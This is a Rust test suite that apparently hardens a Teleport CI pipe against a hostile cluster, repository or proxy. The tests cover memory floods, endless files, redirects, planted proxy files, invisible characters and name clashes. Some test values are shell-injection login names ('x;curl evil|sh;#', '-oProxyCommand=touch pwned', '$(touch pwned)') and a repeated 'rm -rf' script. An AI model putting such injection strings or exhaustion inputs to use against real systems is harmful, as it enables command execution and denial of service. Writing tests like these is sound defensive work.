//! A hostile cluster, repository or proxy: what SECURITY.md promises is true whatever they do. Each story names the finding
//! that led to it.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::{Duration, Instant};

use base64ct::{Base64, Encoding as _};
use rustix::fs::{CWD, FileType, Mode, mknodat};
use teleport_api::types::{CaKeySet, CertAuthoritySpecV2, CertAuthorityV2, SshKeyPair, TlsKeyPair};
use testcluster::{EventKind, Exchange, JoinService, Lie, Testcluster};

use crate::harness::stories;
use crate::machine::TIME;
use crate::step::{Output, Step};

stories! {
    a_cluster_that_returns_too_much_is_refused needs TIME,
    the_largest_cluster_that_is_accepted_is_written needs TIME,
    certificates_with_very_many_names_do_not_use_up_memory,
    json_of_very_many_values_does_not_use_up_memory,
    a_ca_file_that_never_ends_is_refused,
    a_pipelines_file_does_not_use_up_memory,
    a_pipelines_file_does_not_keep_a_run_busy,
    ssh_refuses_files_that_never_end,
    a_planted_network_file_is_not_believed,
    a_leaf_cluster_cannot_take_the_name_of_the_root_cluster,
    no_redirect_is_followed,
    options_that_limit_a_certificate_are_named,
    no_invisible_character_reaches_the_log,
    the_line_to_paste_is_safe_to_paste,
    what_the_cluster_sends_is_encoded_again,
    a_flood_for_the_agent_does_not_disturb_a_session,
    without_an_agent_a_proxy_that_records_reaches_no_node,
}

/// Far longer than any of these runs takes. The promise is `TIMEOUT` and one second; a busy machine needs some more.
const GENEROUS: Duration = Duration::from_secs(30);

/// Runs the pipe with at most 64 MiB of memory besides the program itself, which it has in memory once; that of a debug
/// build is large.
fn with_little_memory(step: &Step) -> Output {
    let program = fs::metadata(Step::binary()).unwrap().len();
    let limit = (64 << 10) + program / 1024;
    let script = format!("ulimit -d {limit} && exec \"$0\"");
    step.run("sh", &["-c", &script, Step::binary()])
}

fn authority(name: impl Into<String>, keys: usize) -> CertAuthorityV2 {
    let key = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKHEChAfPkFWHZ6uJFdNwjNdpKVqIrCJSbjKPjbGG7OV".to_vec();
    let keys = CaKeySet { ssh: vec![SshKeyPair { public_key: key }; keys], ..CaKeySet::default() };
    let spec = CertAuthoritySpecV2 { cluster_name: name.into(), active_keys: Some(keys), ..Default::default() };
    CertAuthorityV2 { spec: Some(spec) }
}

/// A list of a million clusters without anything, behind a group of another field, which decoders skip: in the wire format
/// of protobuf, field 15 begins and ends, and field 1 has no bytes.
fn behind_a_group() -> Vec<u8> {
    [&[0x7b, 0x7c][..], &[0x0a, 0].repeat(1 << 20)].concat()
}

/// `count` names, each a subdomain of the one before, as long as names can be.
fn nested(count: usize) -> impl Iterator<Item = String> {
    (0..count).map(|n| "a.".repeat(n) + "x")
}

fn more_host_authorities(more: impl Fn() -> Vec<CertAuthorityV2> + Send + Sync + 'static) -> Lie {
    Lie::host_authorities(move |list| list.extend(more()))
}

/// F1: before, these filled the disk for minutes, or the memory until the process was aborted.
fn a_cluster_that_returns_too_much_is_refused() {
    let numbered = |count: usize, keys| (0..count).map(move |n| authority(format!("leaf-{n}"), keys));
    for (what, lie) in [
        ("10000 clusters without keys", more_host_authorities(move || numbered(10_000, 0).collect())),
        ("10000 clusters with a key", more_host_authorities(move || numbered(10_000, 1).collect())),
        ("a million clusters without a name", more_host_authorities(|| vec![CertAuthorityV2::default(); 1 << 20])),
        (
            "a million keys without bytes",
            Lie::host_authorities(|list| {
                let spec = list[0].spec.as_mut().unwrap();
                spec.active_keys.as_mut().unwrap().ssh.resize(1 << 20, SshKeyPair::default());
            }),
        ),
        (
            "120 clusters below each other, and 5000 below them",
            more_host_authorities(|| {
                let below = (0..5000).map(|n| format!("leaf-{n}.{}x", "a.".repeat(119)));
                nested(120).chain(below).map(|name| authority(name, 1)).collect()
            }),
        ),
        ("1000 keys of one cluster", more_host_authorities(|| vec![authority("a", 1000)])),
        (
            "files of many megabytes",
            more_host_authorities(|| (0..499).map(|n| authority(format!("{n}-{}", "a".repeat(200)), 32)).collect()),
        ),
        ("1000 keys of the user CA", Lie::user_authorities(|list| list.push(authority("a", 1000)))),
        ("100 authorities in the answer to a join", Lie::join_authorities(|list| list.resize(100, list[0].clone()))),
        ("a million clusters behind a field that is skipped", Lie::Message("GetCertAuthorities", behind_a_group())),
        ("300 roles", Lie::roles(|roles| roles.extend((0..300).map(|n| format!("role-{n}"))))),
        ("a million roles", Lie::roles(|roles| roles.resize(1 << 20, String::new()))),
        ("300 principals", Lie::principals(|names| names.extend((0..300).map(|n| format!("login-{n}"))))),
    ] {
        let cluster = Testcluster::builder().lie(lie).start();
        let step = Step::new(&cluster).env("TIMEOUT", "20s");
        let began = Instant::now();
        let output = with_little_memory(&step);
        let refused = output.stderr.contains("error: the cluster returned ")
            || output.stderr.contains("has more than 32768 fields, the most that is read");
        assert!(refused && output.status == Some(4), "{what}: {:?} {}", output.status, output.stderr);
        assert!(!step.dir().join("tbot-user").exists(), "{what}");
        assert!(began.elapsed() < GENEROUS, "{what}: {:?}", began.elapsed());
    }
}

/// F1: the limits leave room for every cluster that is known.
fn the_largest_cluster_that_is_accepted_is_written() {
    let lie = more_host_authorities(|| {
        let below = (0..390).map(|n| format!("leaf-{n}.{}x", "a.".repeat(100)));
        nested(101).chain(below).map(|name| authority(name, 2)).collect()
    });
    let cluster = Testcluster::builder().lie(lie).start();
    let step = Step::new(&cluster);
    let output = with_little_memory(&step).ok();
    let entries = fs::read_dir(step.dir().join("tbot-user")).unwrap().map(|entry| entry.unwrap());
    let sizes: Vec<_> =
        entries.filter(|entry| entry.file_name() != "teleport-pipe").map(|e| e.metadata().unwrap().len()).collect();
    println!("{} files of {} bytes: {}", sizes.len(), sizes.iter().sum::<u64>(), output.stderr);
    let hello = step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok();
    assert_eq!(hello.stdout, "hello\n");
}

/// A value in DER (X.690).
fn der(tag: u8, parts: &[&[u8]]) -> Vec<u8> {
    let contents = parts.concat();
    let length = u32::try_from(contents.len()).unwrap().to_be_bytes();
    let used = length.iter().position(|byte| *byte != 0).unwrap_or(3);
    let long = [&[0x80 + 4 - u8::try_from(used).unwrap()], &length[used..]].concat();
    let length = if contents.len() < 128 { vec![length[3]] } else { long };
    [&[tag][..], &length, &contents].concat()
}

/// A certificate in PEM whose subject has `names` empty common names. Nothing has signed it.
fn with_names(names: usize) -> Vec<u8> {
    let name = der(0x31, &[&der(0x30, &[&der(0x06, &[&[0x55, 4, 3]]), &der(0x05, &[])])]);
    let algorithm = der(0x30, &[&der(0x06, &[&[0x2b, 0x65, 0x70]])]);
    let time = |year: &str| der(0x17, &[format!("{year}0101000000Z").as_bytes()]);
    let certificate = der(
        0x30,
        &[
            &der(0xa0, &[&der(0x02, &[&[2]])]),
            &der(0x02, &[&[1]]),
            &algorithm,
            &der(0x30, &[]),
            &der(0x30, &[&time("25"), &time("35")]),
            &der(0x30, &[&name.repeat(names)]),
            &der(0x30, &[&algorithm, &der(0x03, &[&[0; 33]])]),
        ],
    );
    let signed = der(0x30, &[&certificate, &algorithm, &der(0x03, &[&[0; 65]])]);
    let base64 = Base64::encode_string(&signed);
    let lines: Vec<_> = base64.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n", lines.join("\n")).into_bytes()
}

/// F1: a name of eleven bytes takes three hundred once it is parsed, and a list of authorities has 4 MiB.
fn certificates_with_very_many_names_do_not_use_up_memory() {
    let unreadable = "error: the TLS certificate from the cluster cannot be read";
    let one = Lie::user_certs(|certs| certs.tls = with_names(200_000));
    let many = |names| {
        more_host_authorities(move || {
            let mut more = authority("leaf.example", 1);
            let tls = &mut more.spec.as_mut().unwrap().active_keys.as_mut().unwrap().tls;
            tls.resize(31, TlsKeyPair { cert: with_names(names) });
            vec![more]
        })
    };
    for (status, text, lie) in
        [(4, unreadable, one), (4, "bytes for the files", many(5000)), (0, "leaf.example", many(8000))]
    {
        let cluster = Testcluster::builder().lie(lie).start();
        let output = with_little_memory(&Step::new(&cluster));
        assert!(
            output.status == Some(status) && output.stderr.contains(text),
            "{:?}: {}",
            output.status,
            output.stderr
        );
    }
}

/// F1: `{"":0}` takes a hundred times as much memory as an object.
fn json_of_very_many_values_does_not_use_up_memory() {
    let values = format!("[{}{{}}]", "{\"\":{\"\":0}},".repeat(80_000));
    let suite = serde_json::from_str::<serde_json::Value>(&values).unwrap();
    let in_find = Lie::find(move |body| body["auth"]["signature_algorithm_suite"] = suite.clone());
    for (status, lie) in [(0, in_find), (5, Lie::Answer(Exchange::Find, 500, values.clone()))] {
        let cluster = Testcluster::builder().lie(lie).start();
        let output = with_little_memory(&Step::new(&cluster).env("TIMEOUT", "5s"));
        assert_eq!(output.status, Some(status), "{}", output.stderr);
    }
}

/// Files in the clone directory that never end or never begin.
fn endless(directory: &Path) -> [&'static str; 2] {
    symlink("/dev/zero", directory.join("zero")).unwrap();
    mknodat(CWD, directory.join("pipe"), FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).unwrap();
    ["zero", "pipe"]
}

/// F3.
fn a_ca_file_that_never_ends_is_refused() {
    let cluster = Testcluster::start();
    let step = Step::new(&cluster);
    for name in endless(step.dir()) {
        let step = Step::new(&cluster).env("CA_FILE", step.dir().join(name).to_str().unwrap());
        let output = with_little_memory(&step);
        assert_eq!(output.status, Some(2), "{}", output.stderr);
        assert!(output.stderr.contains("cannot be used (it is not a regular file)"), "{}", output.stderr);
    }
    let huge = step.dir().join("huge");
    fs::File::create(&huge).unwrap().set_len(1 << 40).unwrap();
    let output = with_little_memory(&Step::new(&cluster).env("CA_FILE", huge.to_str().unwrap()));
    assert!(output.stderr.contains("cannot be used (it is larger than 2048 KiB)"), "{}", output.stderr);
}

/// F1, F2: what a repository can write into the file that the leak check reads.
fn a_pipelines_file_does_not_use_up_memory() {
    let cluster = Testcluster::start();
    let size = 380 << 10;
    let fill = |text: &str| text.repeat(size / text.len());
    let step = |script: &str| {
        format!(
            "pipelines: {{default: [{{step: {{oidc: true, artifacts: ['**'], script: [teleport-pipe, '{script}']}}}}]}}"
        )
    };
    for text in [
        format!("[{}]", fill("1,")),
        format!("[{}]", fill("[],")),
        format!("[\n{}]", fill("1,\n")),
        format!("{{{}}}", fill("a: 1,")),
        format!("[{}]", fill("a:,")),
        format!("[{}]", fill("?:,")),
        format!("{{{}}}", fill("a,")),
        format!("[\n{}]", fill("[:,\n")),
        fill("--- {a: b}\n"),
        (0..size / 12).map(|n| format!("a{n}: &x{n} 1\n")).take(20_000).collect(),
        step(&fill("rm -rf {a,b}; ")),
        step(&fill("sh -c \"sh -c ")),
    ] {
        let step = Step::new(&cluster).env("LEAK_CHECK", "warn");
        fs::write(step.dir().join("bitbucket-pipelines.yml"), &text).unwrap();
        let output = with_little_memory(&step);
        assert_eq!(output.status, Some(0), "{}: {}", &text[..100], output.stderr);
    }
}

/// F1, F2: many long patterns in each of many steps.
fn a_pipelines_file_does_not_keep_a_run_busy() {
    let cluster = Testcluster::start();
    let patterns = (0..84).map(|n| format!("  - '!({n}{})'\n", "*a".repeat(2000))).collect::<String>();
    let steps = "    - step: {oidc: true, script: [teleport-pipe], artifacts: *p}\n".repeat(400);
    let text = format!("p: &p\n{patterns}pipelines:\n  default:\n{steps}");
    let step = Step::new(&cluster).env("LEAK_CHECK", "warn");
    fs::write(step.dir().join("bitbucket-pipelines.yml"), text).unwrap();
    let began = Instant::now();
    let output = step.pipe().ok();
    assert!(output.stderr.contains("has too many entries or patterns"), "{}", output.stderr);
    assert!(began.elapsed() < GENEROUS, "{:?}", began.elapsed());
}

/// F3, for the ProxyCommand.
fn ssh_refuses_files_that_never_end() {
    let cluster = Testcluster::start();
    let step = Step::new(&cluster);
    step.pipe().ok();
    let [zero, pipe] = endless(step.dir()).map(|name| step.dir().join(name));
    for special in [zero, pipe] {
        fs::remove_file(step.file("identity")).unwrap();
        fs::rename(special, step.file("identity")).unwrap();
        let output = step.ssh(&[&Step::node(&cluster), "true"]);
        assert!(output.stderr.contains("identity cannot be used (it is not a regular file)"), "{}", output.stderr);
    }
}

/// F6: with tbot's command line, files that the run does not know stay. A `network.json` that the `ssh_config` does not mention
/// decides nothing.
fn a_planted_network_file_is_not_believed() {
    let cluster = Testcluster::start();
    let evil = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    evil.set_nonblocking(true).unwrap();
    let step = Step::new(&cluster);
    step.pipe().ok();
    let config = fs::read_to_string(step.file("ssh_config")).unwrap();
    // The cluster has a private CA, so that the run has a file of its own. Without one, its ssh_config would be this.
    assert!(config.contains(" --network-file "), "{config}");
    fs::write(step.file("ssh_config"), config.replace(" --network-file ", " ")).unwrap();
    let planted = format!("{{\"proxy\": \"http://{}\"}}", evil.local_addr().unwrap());
    fs::write(step.file("network.json"), planted).unwrap();
    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
    assert!(evil.accept().is_err(), "the planted forward proxy was connected to");
}

/// F7: host names have no case, so that ssh would trust the CA of the leaf cluster for the nodes of the root cluster.
fn a_leaf_cluster_cannot_take_the_name_of_the_root_cluster() {
    let lie = more_host_authorities(|| vec![authority("EXAMPLE.teleport.sh", 1), authority("Leaf.example", 1)]);
    let cluster = Testcluster::builder().leaf_cluster("leaf.example").lie(lie).start();
    let step = Step::new(&cluster);
    let output = step.pipe().ok();
    let warning = "left out, because the name differs from another cluster's in case only: 2 of the leaf clusters\n";
    assert!(output.stderr.contains(warning), "{}", output.stderr);
    // OpenSSH's own reading of the file.
    for host in ["node.example.teleport.sh", "leafnode.leaf.example"] {
        let found = step.run("ssh-keygen", &["-F", host, "-f", "tbot-user/known_hosts"]).ok().stdout;
        let keys: Vec<_> = found.lines().filter(|line| line.starts_with("@cert-authority")).collect();
        assert_eq!(keys.len(), 1, "{found}");
        assert!(!found.contains("IKHEChAfPkFWHZ6uJFdNwjNdpKVqIrCJSbjKPjbGG7OV"), "{found}");
    }
    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
}

/// The ID token is sent to the proxy and to no other host.
fn no_redirect_is_followed() {
    let evil = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    evil.set_nonblocking(true).unwrap();
    for exchange in [Exchange::Find, Exchange::RestJoin] {
        let location = format!("https://{}/webapi/host/credentials", evil.local_addr().unwrap());
        let cluster = Testcluster::builder().join_service(JoinService::Absent);
        let cluster = cluster.lie(Lie::Redirect(exchange, location)).start();
        let output = Step::new(&cluster).env("TIMEOUT", "20s").pipe();
        assert!(matches!(output.status, Some(4 | 5)), "{exchange:?}: {}", output.stderr);
        assert!(output.stderr.contains("307"), "{exchange:?}: {}", output.stderr);
        assert!(evil.accept().is_err(), "{exchange:?}: the redirect was followed");
    }
}

/// F15: such a certificate is valid, and explains why a login is refused later.
fn options_that_limit_a_certificate_are_named() {
    let options = vec![("source-address", "10.0.0.0/8".to_owned()), ("force-command", "/bin/true".to_owned())];
    let cluster = Testcluster::builder().lie(Lie::CriticalOptions(options)).start();
    let output = Step::new(&cluster).pipe().ok();
    for option in ["source-address", "force-command"] {
        let warning = format!("warning: nodes accept the SSH certificate only as its option `{option}` says\n");
        assert!(output.stderr.contains(&warning), "{}", output.stderr);
    }
}

/// F12: tag characters, which carry hidden text, and others that a terminal does not show.
const INVISIBLE: &str =
    "\u{e0068}\u{e0069}\u{180e}\u{fff9}\u{fffb}\u{1d173}\u{e000}\u{f0000}\u{3164}\u{fe0f}\u{202e}\u{7}\u{ffff}";

fn no_invisible_character_reaches_the_log() {
    let hidden = || format!("hid{INVISIBLE}den");
    let refused = |exchange| Lie::refusal(exchange, move |_| hidden());
    for (status, lie) in [
        (0, Lie::find(move |body| body["server_version"] = format!("18.2.0{INVISIBLE}").into())),
        (5, Lie::find(move |body| body["cluster_name"] = hidden().into())),
        (0, Lie::principals(move |names| names.push(hidden()))),
        (4, refused(Exchange::OidcInit)),
        (4, refused(Exchange::GetRole)),
        (4, refused(Exchange::UserCerts)),
    ] {
        let cluster = Testcluster::builder().lie(lie).start();
        let output = Step::new(&cluster).env("DEBUG", "true").env("TIMEOUT", "20s").pipe();
        assert_eq!(output.status, Some(status), "{}", output.stderr);
        assert_eq!(invisible(&output), [], "{}", output.stderr.escape_unicode());
    }
    // A name in the repository.
    let step = Step::new(&Testcluster::start());
    fs::create_dir(step.dir().join(hidden())).unwrap();
    symlink(hidden(), step.dir().join("tbot-user")).unwrap();
    let output = step.pipe();
    assert_eq!((output.status, invisible(&output)), (Some(6), vec![]), "{}", output.stderr.escape_unicode());
}

fn invisible(output: &Output) -> Vec<char> {
    output.stderr.chars().filter(|c| INVISIBLE.contains(*c)).collect()
}

/// F13: people paste the last line of the log.
fn the_line_to_paste_is_safe_to_paste() {
    for (login, shown) in [
        ("$(touch pwned)", "<login>"),
        ("`id`", "<login>"),
        ("x;curl evil|sh;#", "<login>"),
        ("-oProxyCommand=touch pwned", "<login>"),
        ("a b", "<login>"),
        ("d\u{e9}ploy", "<login>"),
        ("first.last_2-x", "first.last_2-x"),
    ] {
        let lie = Lie::principals(move |names| names.insert(0, login.to_owned()));
        let cluster = Testcluster::builder().lie(lie).start();
        let output = Step::new(&cluster).pipe().ok();
        let line = output.stderr.lines().last().unwrap();
        assert_eq!(line, format!("ssh -F ./tbot-user/ssh_config {shown}@<node>.example.teleport.sh"), "{login}");
    }
}

/// F14: a comment behind the certificate would get into files.
fn what_the_cluster_sends_is_encoded_again() {
    let comment = format!(" {} \u{202e}comment\u{2028}", "x".repeat(1 << 20));
    let lie = Lie::user_certs(move |certs| {
        let line = String::from_utf8(std::mem::take(&mut certs.ssh)).unwrap();
        certs.ssh = format!("{}{comment}\n", line.trim_end()).into_bytes();
    });
    let cluster = Testcluster::builder().lie(lie).start();
    let step = Step::new(&cluster);
    step.pipe().ok();
    for name in ["key-cert.pub", "identity"] {
        let text = fs::read_to_string(step.file(name)).unwrap();
        let line = text.lines().find(|line| line.contains("-cert-v01@openssh.com")).unwrap();
        assert_eq!(line.split(' ').count(), 2, "{name}");
    }
    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
}

/// F4, F15: a proxy that does not record, and asks the agent nevertheless.
fn a_flood_for_the_agent_does_not_disturb_a_session() {
    let list = [0, 0, 0, 1, 11];
    let cluster = Testcluster::builder().lie(Lie::Agent(list.repeat(200_000))).start();
    let step = Step::new(&cluster);
    step.pipe().ok();
    assert_eq!(step.ssh(&[&Step::node(&cluster), "echo", "hello"]).ok().stdout, "hello\n");
    assert!(cluster.wait_for(|kind| matches!(kind, EventKind::Tunnel { .. })));
    let answered = cluster.record().iter().find_map(|event| match event.kind {
        EventKind::Tunnel { agent, .. } => Some(agent),
        _ => None,
    });
    // 64 lists with one certificate each.
    assert!(answered.is_some_and(|bytes| (1..1 << 17).contains(&bytes)), "{answered:?}");
}

/// F4: both switches.
fn without_an_agent_a_proxy_that_records_reaches_no_node() {
    let cluster = Testcluster::builder().proxy_recording().start();
    let refused = |step: &Step| {
        let output = step.ssh(&[&Step::node(&cluster), "true"]);
        assert!(output.stderr.contains("the agent does not list one key"), "{}", output.stderr);
    };
    let step = Step::new(&cluster).env("SSH_AGENT", "false");
    step.pipe().ok();
    refused(&step);
    let step = Step::new(&cluster).env("TELEPORT_PROXY", &cluster.proxy_addr());
    let args = ["start", "identity", "--oneshot", "--destination=./tbot-user", "--no-agent", "--token=example-bot"];
    step.product(&args).ok();
    refused(&step);
}
